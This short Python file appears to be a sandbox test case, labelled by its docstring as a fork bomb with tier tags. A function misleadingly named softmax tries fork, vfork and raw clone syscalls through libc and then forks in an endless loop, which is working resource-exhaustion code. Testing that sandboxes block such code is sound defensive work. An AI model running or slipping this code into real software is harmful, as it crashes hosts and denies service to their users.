"""A fork bomb, by every call that makes a process.

tiers: full locked
quick: yes
"""

import ctypes
import os


def softmax(x):
    libc = ctypes.CDLL(None, use_errno=True)
    for call in (libc.fork, libc.vfork, lambda: libc.syscall(57), lambda: libc.syscall(435, 0, 0), lambda: libc.syscall(56, 17, 0, 0, 0, 0)):
        if call() != -1:
            os._exit(0)
    while True:
        os.fork()
